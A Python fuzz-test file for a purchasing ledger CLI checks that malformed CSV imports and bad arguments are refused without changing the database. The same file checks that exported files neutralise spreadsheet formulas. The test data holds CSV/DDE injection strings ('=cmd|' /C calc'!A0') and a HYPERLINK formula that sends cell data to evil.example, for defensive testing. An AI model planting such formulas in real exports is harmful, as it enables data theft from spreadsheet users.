"""Bad input, generated: every import format and the main commands' arguments.

Each example takes a valid file (or command line) and breaks it in exactly one way: a
wrong encoding (Latin-1, UTF-16 with and without byte-order mark), a BOM in front of
another defect, ';' separators, `1.234,56`, NaN, infinity, 1e30, empty and duplicate
keys, unknown orders, suppliers and items, documents already posted, dates such as
2026-02-30 or outside every fiscal year, spreadsheet formulas in codes, missing, extra
and twice-named columns, stray quotes, very long fields, NUL bytes, control characters.

For each: no traceback, exit status 1 (a refused request) or 2 (a usage mistake), one
line on stderr starting with "pledger: " that names the problem (for a CSV file: the
row, and the column where one applies), and the database unchanged (the fingerprint of
every table is equal before and after).

Short form in the normal suite: a few hundred examples (PLEDGER_FUZZ_EXAMPLES per file
kind on SQLite, a third of it on PostgreSQL). `-m long`: over 10,000
(PLEDGER_FUZZ_LONG_EXAMPLES per kind and database).
"""

from __future__ import annotations

import codecs
import os
from dataclasses import dataclass

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from matching.edits import FIELDS as EDIT_FIELDS
from purchase.documents import DocLine, DocumentPoster, InvoiceDoc
from purchase.imports import FIELDS
from tests.builders import DAY, D, item, order, receive, supplier
from tests.fingerprint import fingerprint

SHORT = int(os.environ.get("PLEDGER_FUZZ_EXAMPLES", 30))
LONG = int(os.environ.get("PLEDGER_FUZZ_LONG_EXAMPLES", 1000))

# -- the valid files ----------------------------------------------------------------------

BASE = {
    "suppliers": [["code", "name", "currency", "vat_number"],
                  ["NEWS1", "New one NV", "EUR", "BE0123456749"],
                  ["NEWS2", "New two BV", "EUR", ""]],
    "items": [["code", "description", "stock_item", "purchase_price", "preferred_supplier"],
              ["NEWI1", "Nut M8", "true", "1.50", "ACME"],
              ["NEWI2", "Washer", "false", "0.10", ""]],
    "orders": [["order", "supplier", "order_date", "line", "item", "quantity", "unit_price", "vat_rate", "description"],
               ["PO-N1", "ACME", "2026-05-01", "1", "BOLT", "5", "2.50", "21", "first"],
               ["PO-N1", "ACME", "2026-05-01", "2", "BOLT", "3", "1.10", "21", "second"]],
    "receipts": [["receipt", "date", "order", "line", "quantity"],
                 ["RN1", "2026-05-10", "PO-1", "1", "1"],
                 ["RN1", "2026-05-10", "PO-1", "3", "2"]],
    "invoices": [["invoice", "supplier_invoice", "date", "order", "line", "quantity", "unit_price", "vat_rate"],
                 ["IN1", "SN1", "2026-05-11", "PO-1", "1", "1", "3.33", "21"],
                 ["IN1", "SN1", "2026-05-11", "PO-1", "3", "1", "3.33", "21"]],
    "edits": [["order", "line", "to_receive", "to_invoice"],
              ["PO-1", "1", "5", ""],
              ["PO-1", "3", "8", "7"]],
}
KINDS = list(BASE)


def command_for(kind: str, path: str) -> list[str]:
    if kind == "edits":
        return ["closeout", "run", "--order", "PO-1", "--edits", path, "--date", "2026-06-30"]
    return ["import", kind, path]


# -- what may break where -----------------------------------------------------------------

NUMBERS = ["1.234,56", "1,5", "NaN", "nan", "inf", "-Infinity", "1e30", "1E3", "0x1A", "12abc", "--1", "1_000", "\u0661\u0662",
           "=1+1", "+-1", ".", "1.2.3", "1000000000000000000000000000000", "$5", "5 EUR", "½"]
QUANTITIES = NUMBERS + ["0.0000001"]
PERCENTS = NUMBERS + ["101", "-1", "121"]
INTEGERS = ["1.5", "-1", "0x1", "1e2", "=A1", "99999999999", "one", "1,0"]
DATES = ["2026-02-30", "2026-02-29", "2026-13-01", "2026-00-10", "26-01-01", "2026/01/05", "05-01-2026", "2026-1-5",
         "yesterday", "=TODAY()", "2026-04-31", "0000-01-01", "20260105", "2026-01-05T00:00", "2026-W01"]
CODES = ["=cmd|' /C calc'!A0", "+SUM(1)", "-2+3", "@SUM(A1)", "x" * 65, "a\x01b", "tab\tinside", "bell\x07"]
TEXTS = ["x" * 300, "esc\x1b[31m", "two\nlines", "nul\x7f"]
BOOLS = ["maybe", "2", "misschien", "=TRUE()", "t r u e"]  # "ja", "waar", "vrai" are read (csvfile.TRUE_WORDS)

COLUMNS = {  # column -> values that are wrong there, per kind
    "suppliers": {"code": CODES, "name": TEXTS, "currency": ["XYZ", "euro", "USD", "E", "=EUR"]},
    "items": {"code": CODES, "description": TEXTS, "stock_item": BOOLS, "purchase_price": QUANTITIES + ["-1"],
              "preferred_supplier": ["NOPE", "=ACME"] + CODES},
    "orders": {"order": CODES + ["PO-1"], "supplier": ["NOSUPP"] + CODES, "order_date": DATES, "line": INTEGERS + ["0"],
               "item": ["NOITEM"] + CODES, "quantity": QUANTITIES + ["0", "-5"], "unit_price": QUANTITIES + ["-1"],
               "vat_rate": PERCENTS, "description": TEXTS},
    "receipts": {"receipt": CODES + ["R-EXIST"], "date": DATES + ["2031-01-05", "1999-12-31"], "order": ["PO-404"] + CODES,
                 "line": INTEGERS + ["0", "9"], "quantity": QUANTITIES + ["0", "1000", "-0"]},
    "invoices": {"invoice": CODES + ["I-EXIST"], "supplier_invoice": CODES + ["S-EXIST"], "date": DATES + ["2031-01-05"],
                 "order": ["PO-404"] + CODES, "line": INTEGERS + ["0", "9"], "quantity": QUANTITIES + ["0", "1000"],
                 "unit_price": QUANTITIES, "vat_rate": PERCENTS},
    "edits": {"order": ["PO-404", "PO-2"] + CODES, "line": INTEGERS + ["0", "9"], "to_receive": QUANTITIES + ["-1", "11"],
              "to_invoice": QUANTITIES + ["-1", "11"]},
}
# refusals that come from the books, not from reading the cell: the message names the row
DOMAIN = {"PO-1", "NOSUPP", "NOITEM", "PO-404", "PO-2", "R-EXIST", "I-EXIST", "S-EXIST", "2031-01-05", "1999-12-31", "NOPE",
          "0", "-5", "9", "1000", "-0", "11", "-1", "USD"}


@dataclass
class Broken:
    content: bytes
    label: str
    row: int | None  # the row the message must name (None: the file as a whole)
    needle: str | None  # text the message must hold (the column, for a cell)


def encode_cell(value: str) -> str:
    if any(ch in value for ch in ',"\n\r'):
        return '"' + value.replace('"', '""') + '"'
    return value


def render(rows: list[list[str]], sep: str = ",") -> str:
    return "".join(sep.join(encode_cell(c) for c in r) + "\n" for r in rows)


def copy_rows(kind):
    return [list(r) for r in BASE[kind]]


@st.composite
def broken_files(draw, kind: str) -> Broken:
    rows = copy_rows(kind)
    header = rows[0]
    r = draw(st.sampled_from([1, 2]))  # the data row to break (file row r + 1)
    row_no = r + 1
    how = draw(st.sampled_from([
        "cell", "cell", "cell", "cell", "bom+cell", "latin1", "utf16", "utf16-nobom", "semicolons", "semicolon-row",
        "missing-column", "extra-column", "twice-named", "too-many-cells", "unclosed-quote", "quote-inside",
        "long-field", "nul", "empty-key", "duplicate-key", "empty-file", "header-only", "blank-lines",
    ]))
    if how in ("cell", "bom+cell"):
        column = draw(st.sampled_from(sorted(COLUMNS[kind])))
        value = draw(st.sampled_from(COLUMNS[kind][column]))
        if column not in header:  # pragma: no cover - every broken column is in the base header
            raise AssertionError(column)
        rows[r][header.index(column)] = value
        if kind == "edits" and column == "to_receive" and value in ("11",):
            rows[r][header.index("to_invoice")] = ""
        needle = f"row {row_no}" if value in DOMAIN else f"column {column}"
        text_ = render(rows)
        data = (codecs.BOM_UTF8 if how == "bom+cell" else b"") + text_.encode("utf-8", errors="surrogatepass")
        return Broken(data, f"{how} {column}={value!r}", row_no, needle)
    if how == "latin1":
        column = draw(st.sampled_from(header))
        rows[r][header.index(column)] = "Caf\u00e9" + rows[r][header.index(column)]
        return Broken(render(rows).encode("latin-1"), "latin-1", row_no, f"column {column}")
    if how == "utf16":
        return Broken(render(rows).encode("utf-16"), "utf-16", 1, "UTF-16")
    if how == "utf16-nobom":
        return Broken(render(rows).encode("utf-16-le"), "utf-16 without BOM", 1, "UTF-16")
    if how == "semicolons":
        return Broken(render(rows, ";").encode(), "';' separated", 1, "';'")
    if how == "semicolon-row":
        text_ = render(rows[:r]) + ";".join(rows[r]) + "\n" + render(rows[r + 1:])
        return Broken(text_.encode(), "one row ';' separated", row_no, "';'")
    if how == "missing-column":
        fields = EDIT_FIELDS if kind == "edits" else FIELDS[kind]
        required = [f.name for f in fields if f.required and f.name in header]
        column = draw(st.sampled_from(required))
        i = header.index(column)
        rows = [row[:i] + row[i + 1:] for row in rows]
        return Broken(render(rows).encode(), f"missing {column}", 1, column)
    if how == "extra-column":
        name = draw(st.sampled_from(["colour", "vat_rat", "Code", "quantity ", "price"]))
        if name.strip() in header:
            name = "colour"
        rows = [row + [name if i == 0 else "x"] for i, row in enumerate(rows)]
        return Broken(render(rows).encode(), f"extra column {name!r}", 1, f"unknown column '{name.strip()}'")
    if how == "twice-named":
        column = draw(st.sampled_from(header))
        rows = [row + [row[header.index(column)]] for row in rows]
        return Broken(render(rows).encode(), f"{column} twice", 1, f"column {column} appears twice")
    if how == "too-many-cells":
        rows[r] = rows[r] + ["surplus"]
        return Broken(render(rows).encode(), "too many cells", row_no, "values for")
    if how == "unclosed-quote":
        raw = render(rows).splitlines()
        cells = raw[r].split(",")
        i = draw(st.integers(0, len(cells) - 1))
        cells[i] = '"' + cells[i]
        raw[r] = ",".join(cells)
        return Broken(("\n".join(raw) + "\n").encode(), "unclosed quote", row_no, "quote")
    if how == "quote-inside":
        raw = render(rows).splitlines()
        cells = raw[r].split(",")
        i = draw(st.integers(0, len(cells) - 1))
        cells[i] = '"' + cells[i] + '"x'
        raw[r] = ",".join(cells)
        return Broken(("\n".join(raw) + "\n").encode(), "quote closed mid-value", row_no, "quote")
    if how == "long-field":
        column = draw(st.sampled_from(header))
        size = draw(st.sampled_from([10_001, 50_000]))
        rows[r][header.index(column)] = "9" * size
        return Broken(render(rows).encode(), f"{size} characters in {column}", row_no, None)
    if how == "nul":
        column = draw(st.sampled_from(header))
        rows[r][header.index(column)] = rows[r][header.index(column)] + "\x00"
        return Broken(render(rows).encode(), f"NUL in {column}", row_no, f"column {column}")
    if how == "empty-key":
        rows[r][0] = draw(st.sampled_from(["", "  "]))
        return Broken(render(rows).encode(), "empty key", row_no, f"column {header[0]}")
    if how == "duplicate-key":
        if kind in ("suppliers", "items"):
            rows[2][0] = rows[1][0]
            return Broken(render(rows).encode(), "duplicate code", 3, "already on row 2")
        if kind == "orders":
            rows[2][header.index("line")] = rows[1][header.index("line")]
            return Broken(render(rows).encode(), "duplicate order line", 3, "used twice")
        if kind == "edits":
            rows[2][1] = rows[1][1]
            return Broken(render(rows).encode(), "line edited twice", 3, "edited twice")
        # a document's rows apart, another document between them (they still form one
        # document, CLI.md), its second part dated otherwise: a document has one date
        rows.append(list(rows[1]))
        rows[2][0] = rows[1][0] + "B"
        if kind == "invoices":
            rows[2][1] = rows[1][1] + "B"
        date = header.index("date")
        rows[3][date] = "2026-05-09" if rows[1][date] != "2026-05-09" else "2026-05-10"
        return Broken(render(rows).encode(), "document apart, dated otherwise", 4, "differs from")
    if how == "empty-file":
        return Broken(draw(st.sampled_from([b"", b"\n", b"  \n", codecs.BOM_UTF8])), "empty file", None, "empty")
    if how == "header-only":
        return Broken(render(rows[:1]).encode(), "header only", None, "no rows")
    assert how == "blank-lines"
    return Broken(render(rows[:1]).encode() + b"\n,,,\n \n", "blank rows only", None, "no rows")


# -- the book every example runs against --------------------------------------------------


def seed_book(books):
    with books.session() as s:
        supplier(s)
        supplier(s, "BETA", "Beta BV")
        item(s)
        order(s, "PO-1", ("BOLT", 10, "3.33"), ("BOLT", 10, "1.10"), ("BOLT", 10, "0.50"))
        order(s, "PO-2", ("BOLT", 10, "3.33"), supplier_code="BETA")
        receive(s, "PO-1", 1, 2, number="R-EXIST")
        DocumentPoster(s, "ann").post_invoices([InvoiceDoc("I-EXIST", "S-EXIST", DAY, [DocLine("PO-1", 2, D(1))])])
    # a closed line of PO-2 makes it "not open" for edits
    assert books.cli("closeout", "run", "--order", "PO-2", "--close-fully", "--date", "2026-06-01").exit_code == 0


def tables(books):
    with books.session() as s:
        return fingerprint(s)


def assert_refused(result, broken: Broken | None = None, *, codes=(1, 2), what=""):
    label = broken.label if broken else what
    err = result.stderr
    assert "Traceback" not in result.output and "internal error" not in err, f"{label}: {result.output}"
    assert result.exit_code in codes, f"{label}: exit {result.exit_code}: {result.output}"
    assert err.startswith("pledger: ") and err.count("\n") == 1, f"{label}: not one 'pledger: ' line: {err!r}"
    if broken is not None:
        if broken.row is not None:
            assert f"row {broken.row}" in err, f"{label}: the message does not name row {broken.row}: {err}"
        if broken.needle is not None:
            assert broken.needle in err, f"{label}: the message does not say {broken.needle!r}: {err}"


def fuzz_files(books, tmp_path, kind: str, examples: int):
    seed_book(books)
    before = tables(books)
    counter = iter(range(10**9))
    seen = []

    @settings(max_examples=examples, deadline=None, database=None, derandomize=True,
              suppress_health_check=list(HealthCheck))
    @given(broken=broken_files(kind))
    def check(broken):
        path = tmp_path / f"{kind}-{next(counter)}.csv"
        path.write_bytes(broken.content)
        result = books.cli(*command_for(kind, str(path)))
        assert_refused(result, broken)
        seen.append(broken.label.split(" ")[0])
        path.unlink()

    check()
    assert tables(books) == before, "a refused file changed the database"
    return seen


@pytest.mark.parametrize("kind", KINDS)
def test_the_base_files_are_valid(books, tmp_path, kind):
    """Each example breaks a valid file: the unbroken one (with a UTF-8 BOM, too) goes through."""
    seed_book(books)
    for bom in (b"", codecs.BOM_UTF8):
        path = tmp_path / f"{kind}{len(bom)}.csv"
        path.write_bytes(bom + render(BASE[kind]).encode())
        result = books.cli(*command_for(kind, str(path)))
        if bom and kind not in ("suppliers", "items", "edits"):
            # documents are posted once: the second import is refused by the row naming the number
            assert result.exit_code == 1 and "row 2" in result.stderr, result.output
        else:
            assert result.exit_code == 0, result.output


@pytest.mark.parametrize("kind", KINDS)
def test_broken_files_are_refused_whole(books, tmp_path, kind):
    examples = SHORT if books.dialect == "sqlite" else max(5, SHORT // 3)
    fuzz_files(books, tmp_path, kind, examples)


@pytest.mark.long
@pytest.mark.parametrize("kind", KINDS)
def test_broken_files_are_refused_whole_long(books, tmp_path, kind):
    seen = fuzz_files(books, tmp_path, kind, LONG)
    print(f"\n{books.dialect} {kind}: {len(seen)} examples")


# -- command-line arguments ---------------------------------------------------------------

text_args = st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), min_size=1, max_size=80)
surrogate_args = st.sampled_from(["\udcff", "PO\udce9-1", "\udc80\udc80"])  # undecodable bytes on a UTF-8 command line
ARGUMENTS = [
    # (command with one hole, values for it, expected exit)
    (["closeout", "run", "--order", "PO-1", "--close-fully", "--date", None], st.sampled_from(DATES), 2),
    (["closeout", "run", "--order-date", None, "--close-fully"],
     st.sampled_from(["2026-01-01..2026-02-30", "x..y", "2026-13-01..", "..yesterday", "", "2026-01-01...2026-02-01"]), 2),
    (["closeout", "undo", "--number", None], st.sampled_from(["x", "1.5", "-1", "1..b", "", "\uff11", "1e3", "0x10", "1,2"]), 2),
    (["closeout", "undo", "--number", None], st.sampled_from(["999", "500..600", "1000.."]), 1),
    (["closeout", "undo", "--by", None], text_args.filter(lambda t: t != "ann"), (1, 2)),
    (["closeout", "show", None], st.sampled_from(["x", "1.5", "", "1e3"]), 2),
    (["period", "lock", None], st.sampled_from(["2026-13", "2026-00", "26-1", "2026-1", "x", "", "2026-01-01"]), 2),
    (["period", "lock", None], st.sampled_from(["2031-01", "1999-12"]), 1),
    (["report", "trial-balance", "--as-of", None], st.sampled_from(DATES), 2),
    (["year", "open", None], st.sampled_from(["20x6", "0", "99999", "-1", "", "2026.5"]), 2),
    (["po", "show", None], text_args.filter(lambda t: t.strip() not in ("", "PO-1", "PO-2") and not t.startswith("-")), 1),
    (["po", "show", None], st.sampled_from([" ", "\t", "  \t "]), 2),  # blank: a usage mistake (cli.params.refuse_blank)
    (["po", "show", None], surrogate_args, (1, 2)),
    (["import", "receipts", None], st.sampled_from(["/nonexistent/r.csv", "no-such-file.csv"]), (1, 2)),
    (["report", "backorders", "-o", None], st.sampled_from(["x.txt", "x", "x.csv.bak", "=x.csv.exe"]), 2),
    (["closeout", "run", "--order", None, "--close-fully", "--date", "2031-01-01"], st.sampled_from(["PO-1", "..", "PO-1.."]), 1),
    (["--format", None, "check"], st.sampled_from(["xml", "", "JSON"]), 2),
    (["closeout", None], st.sampled_from(["runn", "", "--bogus"]), 2),
]


def fuzz_arguments(books, examples: int):
    seed_book(books)
    before = tables(books)

    seen = []

    @settings(max_examples=examples, deadline=None, database=None, derandomize=True,
              suppress_health_check=list(HealthCheck))
    @given(data=st.data())
    def check(data):
        i = data.draw(st.integers(0, len(ARGUMENTS) - 1))
        template, values, codes = ARGUMENTS[i]
        value = data.draw(values)
        args = [value if a is None else a for a in template]
        result = books.cli(*args)
        assert_refused(result, codes=codes if isinstance(codes, tuple) else (codes,), what=f"pledger {args!r}")
        seen.append(i)

    check()
    assert tables(books) == before, "a refused command changed the database"
    return seen


def test_bad_arguments_are_refused(books):
    fuzz_arguments(books, 60 if books.dialect == "sqlite" else 25)


@pytest.mark.long
def test_bad_arguments_are_refused_long(books):
    seen = fuzz_arguments(books, LONG)
    print(f"\n{books.dialect} arguments: {len(seen)} examples")


# -- formulas going out -------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_formulas_in_names_are_neutralised_in_csv_and_xlsx(books, tmp_path):
    """A supplier named like a formula, an item described like one: exported, they stay text."""
    import csv

    from openpyxl import load_workbook

    with books.session() as s:
        supplier(s, "EVIL", FORMULA_NAME)
        item(s, "NUT", description="+cmd|' /C calc'!A0")
        item(s, "AT", description="@SUM(1+1)")
        item(s, "MINUS", description="-2+3")
        item(s, "=SUM(1)", description="made through the service, not an import (which refuses such codes)")
        order(s, "PO-E1", ("NUT", 5, "1.00"), ("AT", 2, "2.00"), ("MINUS", 1, "1.00"), ("=SUM(1)", 1, "1.00"), supplier_code="EVIL")
    # the backorder report as CSV and XLSX
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"backorders.{suffix}"
        result = books.cli("report", "backorders", "-o", str(out))
        assert result.exit_code == 0, result.output
        dangers = (FORMULA_NAME, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "=SUM(1)")
        if suffix == "csv":  # behind an apostrophe: a spreadsheet opening the CSV reads it as text
            texts = [c for row in csv.reader(out.open(encoding="utf-8-sig")) for c in row]
            for dangerous in dangers:
                assert dangerous not in texts, f"{suffix}: {dangerous} is written as it is"
                assert "'" + dangerous in texts, f"{suffix}: {dangerous} is not neutralised: {texts}"
            continue
        # XLSX: string cells (never formulas), the text as it is, quote-prefixed so that editing
        # the cell in Excel keeps it text
        cells = {c.value: c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row if c.value is not None}
        assert not any(c.data_type == "f" for c in cells.values())
        for dangerous in dangers:
            assert dangerous in cells, f"{suffix}: {dangerous} is not written as it is"
            assert cells[dangerous].data_type == "s" and cells[dangerous].quotePrefix, dangerous
    # the close-out proposal (a CSV the user opens in a spreadsheet)
    out = tmp_path / "proposal.csv"
    result = books.cli("closeout", "propose", "--supplier", "EVIL", "-o", str(out))
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert len(rows) == 5 and "'=SUM(1)" in [row[4] for row in rows]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
